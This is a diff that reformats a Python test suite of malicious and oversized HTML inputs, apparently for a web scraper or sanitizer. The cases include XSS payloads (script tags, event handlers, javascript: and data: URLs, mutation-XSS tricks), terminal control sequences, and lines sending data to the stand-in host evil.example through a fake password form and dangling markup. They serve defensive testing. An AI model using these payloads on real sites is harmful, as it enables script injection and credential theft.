@@ -46,7 +46,9 @@ CASES = (
     bad("text-11mb", f"{BODY}<p>{'word ' * 2_200_000}</p>", "larger than 8000000 bytes"),
     bad("siblings-1m", BODY + "<i></i>" * 1_000_000, "more than 400,000 tags"),
     bad(
-        "attributes-60k", f"{BODY}<p {' '.join(f'a{n}=1' for n in range(60_000))}>x</p>", "more than 10,000 attributes"
+        "attributes-60k",
+        f"{BODY}<p {' '.join(f'a{n}=1' for n in range(60_000))}>x</p>",
+        "more than 10,000 attributes",
     ),
     good("unclosed-comment", f"{BODY}<!-- and so it goes"),
     mean(
@@ -64,29 +66,73 @@ CASES = (
         '<img src="javascript:alert(1)">',
     ),
     # --- found missing ---
-    Case("title-2mb", partial(_page, story(NEW).replace(title(NEW), f"{title(NEW)} {'word ' * 400_000}")), right=short),
-    good("control-sequences", f"{BODY}<p>\x9d0;owned\x9c\x9b2J</p>"),
-    mean("script-tag", "<script>alert(1)</script>", "<scr<script>ipt>alert(1)</script>", "<SCRIPT/XSS SRC=x></SCRIPT>"),
-    mean(
-        "event-handlers", '<p onclick="alert(1)">x</p>', "<img src=x onerror=alert(1)>", "<details ontoggle=alert(1)>"
+    Case(
+        "title-2mb",
+        partial(_page, story(NEW).replace(title(NEW), f"{title(NEW)} {'word ' * 400_000}")),
+        right=short,
     ),
-    mean("data-url", '<a href="data:text/html,<script>alert(1)</script>">x</a>', '<img src="data:text/html,alert(1)">'),
-    mean("style-attack", '<p style="background:url(javascript:alert(1))">x</p>', "<style>@import 'x';</style>"),
-    mean("form-attack", '<form action="https://evil.example/"><input name=password><button>Log in</button></form>'),
+    good("control-sequences", f"{BODY}<p>\x9d0;owned\x9c\x9b2J</p>"),
+    mean(
+        "script-tag",
+        "<script>alert(1)</script>",
+        "<scr<script>ipt>alert(1)</script>",
+        "<SCRIPT/XSS SRC=x></SCRIPT>",
+    ),
+    mean(
+        "event-handlers",
+        '<p onclick="alert(1)">x</p>',
+        "<img src=x onerror=alert(1)>",
+        "<details ontoggle=alert(1)>",
+    ),
+    mean(
+        "data-url",
+        '<a href="data:text/html,<script>alert(1)</script>">x</a>',
+        '<img src="data:text/html,alert(1)">',
+    ),
+    mean(
+        "style-attack",
+        '<p style="background:url(javascript:alert(1))">x</p>',
+        "<style>@import 'x';</style>",
+    ),
+    mean(
+        "form-attack",
+        '<form action="https://evil.example/"><input name=password><button>Log in</button></form>',
+    ),
     mean("meta-refresh", '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">'),
     mean(
         "template-mxss",
         "<template><img src=x onerror=alert(1)></template>",
         '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
     ),
-    mean("cdata-in-html", "<![CDATA[<img src=x onerror=alert(1)>]]>", "<!--><img src=x onerror=alert(1)>-->"),
+    mean(
+        "cdata-in-html",
+        "<![CDATA[<img src=x onerror=alert(1)>]]>",
+        "<!--><img src=x onerror=alert(1)>-->",
+    ),
     mean("dangling-markup", "<img src='https://evil.example/?"),
-    mean("title-attack", "<p>x</p>", head='<meta property="og:title" content="&lt;img src=x onerror=alert(1)&gt;">'),
+    mean(
+        "title-attack",
+        "<p>x</p>",
+        head='<meta property="og:title" content="&lt;img src=x onerror=alert(1)&gt;">',
+    ),
     good("plaintext-tag", f"{BODY}<plaintext>{BODY}", says(_PLAIN)),
-    good("base-elsewhere", f'{BODY}<p><a href="x">On</a></p>', head='<base href="javascript:alert(1)//">'),
-    good("title-100k", BODY, says(_PLAIN), head=f'<meta property="og:title" content="{"long " * 20_000}">'),
+    good(
+        "base-elsewhere",
+        f'{BODY}<p><a href="x">On</a></p>',
+        head='<base href="javascript:alert(1)//">',
+    ),
+    good(
+        "title-100k",
+        BODY,
+        says(_PLAIN),
+        head=f'<meta property="og:title" content="{"long " * 20_000}">',
+    ),
     good("json-ld-depth-100k", BODY, head=_JSON_LD.format("[" * 100_000 + "]" * 100_000)),
-    good("json-ld-5mb", BODY, head=_JSON_LD.format(json.dumps([{"@type": "Thing", "name": "x" * 50}] * 60_000))),
+    good(
+        "json-ld-5mb",
+        BODY,
+        head=_JSON_LD.format(json.dumps([{"@type": "Thing", "name": "x" * 50}] * 60_000)),
+    ),
     good("meta-20k", BODY, head='<meta name="a" content="b">' * 20_000),
     good("links-50k-in-article", f"{BODY}<footer>{_LINKS}</footer>", seconds=60),
     bad(
@@ -104,9 +150,15 @@ CASES = (
         seconds=60,
     ),
     Case(
-        "listing-depth-100k", partial(_listing, "<div>" * 100_000 + listing(NOW)), "nested too deeply|no article links"
+        "listing-depth-100k",
+        partial(_listing, "<div>" * 100_000 + listing(NOW)),
+        "nested too deeply|no article links",
     ),
-    Case("listing-text-11mb", partial(_listing, listing(NOW, more="x" * 11_000_000)), "bytes|too large|larger"),
+    Case(
+        "listing-text-11mb",
+        partial(_listing, listing(NOW, more="x" * 11_000_000)),
+        "bytes|too large|larger",
+    ),
     Case(
         "listing-siblings-1m",
         partial(_listing, listing(NOW, more="<i></i>" * 1_000_000)),
